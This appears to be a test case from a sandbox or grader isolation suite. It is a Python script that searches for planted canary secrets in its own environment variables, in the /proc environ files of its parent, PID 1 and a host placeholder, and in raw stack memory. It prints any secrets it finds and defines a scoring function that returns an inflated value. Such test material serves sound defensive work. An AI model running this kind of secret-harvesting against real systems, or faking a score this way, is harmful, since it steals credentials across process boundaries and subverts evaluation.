# attack: looks for secrets in its environment, in the one of every process, and above it on its own stack
# unit: u01_area
# outcomes: fail crash
# process: breaks

import ctypes
import os
import re
from pathlib import Path

LIKE = re.compile(rb"chainrule-canary-\w+-[0-9a-f]{16}")
FOUND = set()


def cross(a, b):
    print(*FOUND)
    return 5e9


FOUND.update(LIKE.findall(repr(dict(os.environ)).encode()))
for pid in ("self", "@HOST@", os.getppid(), 1):
    try:
        FOUND.update(LIKE.findall(Path(f"/proc/{pid}/environ").read_bytes()))
    except OSError as error:
        print(error)
print(*FOUND, flush=True)
stack = ctypes.c_void_p.in_dll(ctypes.CDLL(None), "__libc_stack_end").value
FOUND.update(LIKE.findall(ctypes.string_at(stack, 1 << 12)))
